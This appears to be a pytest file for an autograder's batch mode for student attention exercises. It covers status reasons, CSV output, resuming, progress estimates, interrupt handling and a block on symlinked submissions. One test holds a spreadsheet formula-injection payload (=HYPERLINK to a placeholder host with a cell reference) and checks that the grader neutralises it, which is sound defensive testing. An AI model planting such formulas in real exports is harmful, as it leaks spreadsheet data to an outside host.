"""attn-grade batch: a status that says why a row lost its points, mistakes as sentences, rows written as
files finish, an interrupt that keeps them (and --resume that grades only the rest), an honest progress line."""

import csv
import hashlib
import io
import os
import shutil
import signal
import subprocess
import sys
import time
from pathlib import Path

import pytest

from grader import batch
from grader.score import CheckResult, Grade, StepResult, verdict
from tests.conftest import REFERENCE, ROOT

HANG = REFERENCE + "\n\ndef softmax(scores, dim=-1):\n    while True:\n        pass\n"


def check(step: str, name: str, outcome: str = "passed", message: str = "", **extra) -> CheckResult:
    return CheckResult(step, name, outcome, 5, message, **extra)


def graded(*steps: tuple[str, tuple[CheckResult, ...]], file_error: str | None = None) -> Grade:
    environment = {"file_error": file_error} if file_error else {}
    return Grade("mha", "Multi-head attention", "mha.py", tuple(StepResult(s, s, c) for s, c in steps), environment,
                 sha256="0" * 64)


# -- status and reason -------------------------------------------------------------------


def test_the_status_tells_each_way_of_losing_points_apart():
    ok = ("project", (check("project", "project_shape"),))
    cases = {
        "could not import": graded(("project", (check("project", "project_shape", "error", "not run",
                                                      error_kind="import"),)),
                                   file_error="could not import: SyntaxError at line 3: invalid syntax"),
        "timed out": graded(ok, ("softmax", (check("softmax", "softmax_shape", "error", "timed out after 10 s",
                                                   error_kind="timeout"),))),
        "crashed": graded(ok, ("softmax", (check("softmax", "softmax_shape", "error", "worker died (SIGSEGV)",
                                                 error_kind="died"),))),
        "rule broken": graded(ok, ("softmax", (check("softmax", "softmax_rules", "failed", "called torch.softmax",
                                                     breach=True),))),
        "points lost": graded(ok, ("softmax", (check("softmax", "softmax_values", "failed", "values differ"),))),
        "full marks": graded(ok),
    }
    said = {status: verdict(grade) for status, grade in cases.items()}
    assert {status: got[0] for status, got in said.items()} == {status: status for status in cases}
    assert said["could not import"][1] == "SyntaxError at line 3: invalid syntax"
    assert said["timed out"][1] == "softmax: timed out after 10 s"
    assert said["crashed"][1] == "softmax: worker died (SIGSEGV)"
    assert said["rule broken"][1] == "softmax: called torch.softmax"
    assert said["points lost"][1] == "lost points in 1 of 2 steps: softmax" and said["full marks"][1] == ""
    # an import that hung is a hang, one that killed its worker a crash
    steps = [(s.id, s.checks) for s in cases["could not import"].steps]
    hung = graded(*steps, file_error="timed out after 60 s while importing")
    died = graded(*steps, file_error="candidate exited while importing (killed)")
    assert verdict(hung)[0] == "timed out" and verdict(died)[0] == "crashed"
    # the code's own exception is an ordinary loss, not a crash
    raised = graded(ok, ("softmax", (check("softmax", "softmax_shape", "error", "ValueError", error_kind="raised"),)))
    assert verdict(raised)[0] == "points lost"


def test_the_mistake_columns_carry_the_sentence_and_the_id_its_own_column():
    named = check("scale_scores", "scale_scores_values", "failed", "values differ", mistake_id="scale_scores.unscaled",
                  mistake="returned the scores unscaled: divide by √head_dim")
    hang = check("softmax", "softmax_shape", "error", "timed out after 10 s", error_kind="timeout")
    result = graded(("scale_scores", (check("scale_scores", "scale_scores_shape"), named)), ("softmax", (hang,)))
    [row] = csv.DictReader(io.StringIO(batch.to_csv([batch.row_of(result, 1.0)])))
    assert row["scale_scores_first_lost"] == "scale_scores_values"
    assert row["scale_scores_mistake"] == "returned the scores unscaled: divide by √head_dim"
    assert row["scale_scores_mistake_id"] == "scale_scores.unscaled"
    assert row["softmax_mistake"] == "timed out after 10 s" and row["softmax_mistake_id"] == ""
    assert row["status"] == "timed out" and row["reason"] == "softmax: timed out after 10 s"


def test_candidate_text_that_a_spreadsheet_would_run_is_made_inert():
    # an exception class may be named anything: the forty-fifth review's `=HYPERLINK(...)` led the reason cell
    formula = '=HYPERLINK("http://example.invalid/"&A1,"click")'
    raised = check("softmax", "softmax_shape", "error", f"{formula}: x (line 2)", error_kind="raised")
    result = graded(("softmax", (raised,)))
    [row] = csv.DictReader(io.StringIO(batch.to_csv([batch.row_of(result, 1.0)])))
    assert row["softmax_mistake"] == f"'{formula}: x (line 2)"
    for text in ("+1", "-1", "@SUM(A1)", "\tx", "\rx"):
        assert batch.inert(text) == "'" + text
    assert batch.inert("ValueError: x") == "ValueError: x" and batch.inert("") == ""


# -- the CSV as files finish ---------------------------------------------------------------


def _flat(name: str, status: str = "full marks") -> dict:
    return batch._row(name, status, "", 1.0, exercise="mha", total=100, max_score=100, sha256="0" * 64,
                      steps={"project": 10})


def test_rows_are_on_disk_as_they_are_added_and_in_the_files_order_at_the_end(tmp_path):
    out = tmp_path / "results.csv"
    sink = batch.CsvOutput(out, ["project"])
    sink.add(_flat("b.py"))
    assert [r["file"] for r in csv.DictReader(io.StringIO(out.read_text()))] == ["b.py"]  # before any finish
    sink.add(_flat("a.py"))
    sink.finish(batch.in_order([Path("a.py"), Path("b.py")], [batch.flat(_flat("b.py")), batch.flat(_flat("a.py"))]))
    assert [r["file"] for r in csv.DictReader(io.StringIO(out.read_text()))] == ["a.py", "b.py"]


def test_resume_keeps_only_rows_of_files_unchanged_and_graded(tmp_path):
    same, changed, failed = (tmp_path / name for name in ("same.py", "changed.py", "failed.py"))
    for path in (same, changed, failed):
        path.write_text("x = 1\n")
    digest = hashlib.sha256(b"x = 1\n").hexdigest()
    earlier = [{"file": str(same), "status": "points lost", "sha256": digest},
               {"file": str(changed), "status": "full marks", "sha256": digest},
               {"file": str(failed), "status": "internal error", "sha256": ""}]
    changed.write_text("x = 2\n")
    assert batch.already_graded(earlier, [same, changed, failed]) == {str(same)}
    (tmp_path / "other.csv").write_text("name,score\nx,1\n")
    with pytest.raises(batch.UsageError, match="no CSV that attn-grade batch wrote"):
        batch.read_earlier(tmp_path / "other.csv")
    assert batch.read_earlier(tmp_path / "missing.csv") == []


def test_resume_reads_back_the_names_the_csv_made_inert(tmp_path):
    """A file under a folder named @ada was written as '@ada/...: --resume read that back as its name, never found
    the file graded, and graded it again, one more row every time (review 48's B2)."""
    names = [str(tmp_path / "@ada" / "masks.py").lstrip("/"), "=x.py", "'q.py", "''=y.py"]
    digest = hashlib.sha256(b"x = 1\n").hexdigest()
    rows = [{**_flat(name), "sha256": digest} for name in names]
    out = tmp_path / "results.csv"
    sink = batch.CsvOutput(out, ["project"])
    for row in rows:
        sink._writer.writerow(batch._cells(row))
    sink.finish(rows)
    assert [r["file"] for r in csv.DictReader(io.StringIO(out.read_text()))] == [batch.inert(n) for n in names]
    assert [r["file"] for r in batch.read_earlier(out)] == names
    for name in names:
        (tmp_path / name).parent.mkdir(parents=True, exist_ok=True)
        (tmp_path / name).write_text("x = 1\n")
    files = [tmp_path / name for name in names]
    earlier = [{**r, "file": str(tmp_path / r["file"])} for r in batch.read_earlier(out)]
    assert batch.already_graded(earlier, files) == {str(f) for f in files}


# -- progress ------------------------------------------------------------------------------


def test_progress_guesses_the_time_left_only_from_enough_finished_files():
    assert batch.progress_line(0, 10, 4.0) == "grading: 0/10 files"  # nothing graded yet: no guess
    assert batch.progress_line(1, 10, 2.0, graded=[2.0]) == "grading: 1/10 files"  # one file is no pace
    assert batch.progress_line(4, 10, 2.0, graded=[1.0] * 4, running=[0.5]) == "grading: 4/10 files, about 3 s left"
    assert batch.progress_line(2, 10, 30.0, graded=[15.0] * 2) == "grading: 2/10 files, about 2 min 00 s left"
    assert batch.progress_line(1, 1, 9.0, graded=[9.0]) == "grading: 1/1 file"


def test_progress_promises_no_seconds_while_a_slow_file_runs():
    """'about 1 s left' with a 20 s file running was a promise it could not keep."""
    line = batch.progress_line(5, 6, 2.0, graded=[0.4] * 5, running=[20.0])
    assert line == "grading: 5/6 files, one file has run 20 s" and "left" not in line
    # a file running longer than the guess, but not slow for its kind: the guess is never below it
    assert batch.progress_line(4, 6, 4.0, graded=[3.0] * 4, running=[5.0]) == "grading: 4/6 files, about 5 s left"


# -- an interrupt --------------------------------------------------------------------------


def _descendants(pid: int) -> set[int]:
    """Every process below `pid` (Linux's /proc)."""
    parents = {}
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit():
            try:
                stat = (entry / "stat").read_text()
            except OSError:
                continue
            parents[int(entry.name)] = int(stat[stat.rindex(")") + 2 :].split()[1])
    found, frontier = set(), {pid}
    while frontier:
        frontier = {child for child, parent in parents.items() if parent in frontier} - found
        found |= frontier
    return found


def _alive(pid: int) -> bool:
    try:
        stat = Path(f"/proc/{pid}/stat").read_text()
    except OSError:
        return False
    return stat[stat.rindex(")") + 2] != "Z"


def _rows(path: Path) -> list[dict]:
    try:
        return list(csv.DictReader(io.StringIO(path.read_text())))
    except FileNotFoundError:
        return []


@pytest.mark.skipif(not Path("/proc/self/stat").exists(), reason="reads the process tree from /proc")
def test_ctrl_c_keeps_the_rows_graded_stops_the_workers_quietly_and_resume_grades_the_rest(tmp_path):
    folder = tmp_path / "class"
    for name, text in {"a_syntax": "def broken(:\n", "b_hang": HANG, "c_hang": HANG, "d_reference": REFERENCE}.items():
        (folder / name).mkdir(parents=True)
        (folder / name / "mha.py").write_text(text)
    out = tmp_path / "results.csv"
    command = [shutil.which("attn-grade") or sys.exit("attn-grade is not on PATH"), "batch", str(folder),
               "--jobs", "1", "--timeout", "3", "--device", "cpu", "--output", str(out)]
    # a session of its own: the SIGINT below goes to its whole process group, as a terminal's Ctrl-C does
    process = subprocess.Popen(command, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
                               start_new_session=True)
    try:
        deadline = time.monotonic() + 180
        while not _rows(out) and time.monotonic() < deadline and process.poll() is None:
            time.sleep(0.05)  # waiting for the first file to finish: its row is written as it does
        before = _rows(out)
        assert before, "no row written as the first file finished"
        assert process.poll() is None, "the batch ended before it could be interrupted"
        below = _descendants(process.pid)  # its workers and their zygotes
        os.killpg(process.pid, signal.SIGINT)
        stdout, stderr = process.communicate(timeout=60)
    finally:
        if process.poll() is None:
            process.kill()
    assert process.returncode == 130, stderr
    assert "Traceback" not in stderr and "KeyboardInterrupt" not in stderr, stderr
    assert "run the same command with --resume" in stderr, stderr
    kept = _rows(out)
    assert [r["file"] for r in before] == [r["file"] for r in kept][: len(before)]
    assert kept[0]["status"] == "could not import" and "SyntaxError at line 1" in kept[0]["reason"]
    assert len(kept) < 4, kept  # interrupted: the rest was never graded
    deadline = time.monotonic() + 30
    while any(_alive(pid) for pid in below) and time.monotonic() < deadline:
        time.sleep(0.1)
    assert not [pid for pid in below if _alive(pid)], "workers left running after the interrupt"

    resumed = subprocess.run([*command, "--resume"], capture_output=True, text=True, timeout=300)
    assert resumed.returncode == 0, resumed.stderr
    assert f"resuming: {len(kept)} " in resumed.stderr, resumed.stderr
    assert f"graded {4 - len(kept)} " in resumed.stderr, resumed.stderr
    rows = _rows(out)
    assert [Path(r["file"]).parent.name for r in rows] == ["a_syntax", "b_hang", "c_hang", "d_reference"]
    assert rows[: len(kept)] == kept  # the rows kept are not graded again
    assert [r["status"] for r in rows[1:]] == ["timed out", "timed out", "full marks"]


def test_links_under_a_folder_are_not_graded(tmp_path):
    """Review 49: a student's mha.py linked to the kit's solutions/mha.py scored 100 in batch."""
    (tmp_path / "ada").mkdir()
    (tmp_path / "bob").mkdir()
    (tmp_path / "ada" / "mha.py").symlink_to(ROOT / "solutions" / "mha.py")
    (tmp_path / "bob" / "mha.py").write_text("x = 1\n")
    (tmp_path / "eve").symlink_to(ROOT / "solutions", target_is_directory=True)
    files, links = batch.find_files([str(tmp_path)])
    assert files == [tmp_path / "bob" / "mha.py"] and links == [tmp_path / "ada" / "mha.py"]
